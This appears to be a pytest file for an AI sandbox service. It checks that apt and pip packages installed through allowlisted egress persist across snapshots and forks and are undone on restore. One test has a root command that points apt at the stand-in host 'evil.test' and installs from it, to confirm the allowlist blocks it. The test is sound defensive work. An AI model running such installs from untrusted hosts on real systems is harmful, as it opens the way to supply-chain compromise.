"""Packages that are installed in a sandbox, through its egress, and last as long as it and its snapshots."""

from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from lm_sandbox.sandboxes.commands import CommandResult
from lm_sandbox.sandboxes.sandbox import NewCommand, NewSandbox
from lm_sandbox.sandboxes.user import User
from tests.sandboxes.imaged import (
    ROOMY,
    driver_with_images,
    make_repository,
    make_wheel,
    needs_images,
    serving_files,
)
from tests.sandboxes.networked import OWNER, Box, box
from tests.sandboxes.upstream import loopback

pytestmark = [pytest.mark.anyio, needs_images]
PACKAGE, WHEEL = "lmhello", "lmwheel"


@pytest.fixture
def mirror(tmp_path: Path) -> Iterator[tuple[str, int]]:
    """Serves an apt repository and a wheel."""
    served = tmp_path / "mirror"
    served.mkdir()
    make_repository(served / "apt", PACKAGE)
    make_wheel(served, WHEEL)
    address = loopback()
    with serving_files(served, address) as port:
        yield address, port


@pytest.fixture
async def sandbox(mirror: tuple[str, int], tmp_path: Path) -> AsyncIterator[Box]:
    address, port = mirror
    new = NewSandbox(limits=ROOMY, image="host")
    rules = (f"mirror.test:{port}", f"{address}:{port}")
    async with box(*rules, driver=driver_with_images(tmp_path), new=new) as made:
        made.table.names["mirror.test"] = [address]
        yield made


async def as_root(made: Box, script: str, sandbox: str | None = None) -> CommandResult:
    new = NewCommand(script, timeout_s=120, user=User.ROOT)
    return await made.service.run(OWNER, sandbox or made.id, new)


async def install(made: Box, port: int) -> None:
    sources = f"deb [trusted=yes] http://mirror.test:{port}/apt ./"
    installed = await as_root(
        made,
        f"rm -rf /etc/apt/sources.list.d && echo '{sources}' > /etc/apt/sources.list && apt-get update "
        f"&& apt-get install -y {PACKAGE} && {PACKAGE} && stat -c %U /usr/share/{PACKAGE}",
    )
    assert installed.exit_code == 0, installed
    assert installed.stdout.endswith(f"{PACKAGE} runs\n{PACKAGE}\n".encode()), installed
    pip = await as_root(
        made,
        "/usr/bin/python3 -m pip install --break-system-packages --no-index --root-user-action=ignore "
        f"--trusted-host mirror.test http://mirror.test:{port}/{WHEEL}-1.0-py3-none-any.whl",
    )
    assert pip.exit_code == 0, pip


BOTH = f"{PACKAGE}; /usr/bin/python3 -c 'import {WHEEL}'"
RUN_BOTH = f"{PACKAGE} runs\n{WHEEL} is imported\n"


async def test_what_apt_and_pip_install_is_there_for_both_users_and_in_forks(
    sandbox: Box, mirror: tuple[str, int]
) -> None:
    assert RUN_BOTH not in await sandbox.out(BOTH)
    await install(sandbox, mirror[1])
    assert await sandbox.out(BOTH) == RUN_BOTH
    snapshot = await sandbox.snapshots.create(OWNER, sandbox.id, None)
    assert snapshot.image == "host"
    fork = await sandbox.service.create(OWNER, NewSandbox(limits=ROOMY, snapshot=snapshot.id))
    assert fork.image == "host"
    told = await sandbox.service.run(OWNER, fork.id, NewCommand(BOTH))
    assert told.stdout.decode() == RUN_BOTH
    removed = await as_root(sandbox, f"apt-get remove -y {PACKAGE}", fork.id)
    assert removed.exit_code == 0, removed
    assert (await sandbox.service.run(OWNER, fork.id, NewCommand(PACKAGE))).exit_code == 127
    assert await sandbox.out(BOTH) == RUN_BOTH


async def test_an_installation_is_seen_as_changes_and_undone(sandbox: Box, mirror: tuple[str, int]) -> None:
    before = await sandbox.snapshots.create(OWNER, sandbox.id, None)
    await install(sandbox, mirror[1])
    changes = await sandbox.snapshots.changes(OWNER, sandbox.id, before.id)
    found = {change.path: change.kind.value for change in changes}
    assert found[f"/usr/bin/{PACKAGE}"] == "created"
    assert found["/var/lib/dpkg/status"] == "modified"
    assert found["/etc/passwd"] == "modified"
    assert "/usr/bin/env" not in found
    assert not [path for path in found if "/mnt" in path or "upper" in path]
    await sandbox.snapshots.restore(OWNER, sandbox.id, before.id)
    assert await sandbox.snapshots.changes(OWNER, sandbox.id, before.id) == []
    assert (await sandbox.run(PACKAGE)).exit_code == 127
    await install(sandbox, mirror[1])
    assert await sandbox.out(BOTH) == RUN_BOTH


async def test_nothing_is_installed_from_what_the_allowlist_lacks(sandbox: Box) -> None:
    refused = await as_root(
        sandbox,
        "rm -rf /etc/apt/sources.list.d; echo 'deb [trusted=yes] http://evil.test/ ./' > /etc/apt/sources.list; "
        "apt-get update -o Acquire::Retries=0; apt-get install -y lmhello",
    )
    assert refused.exit_code != 0
    assert b"evil.test" in refused.stderr
    assert sandbox.refusals()
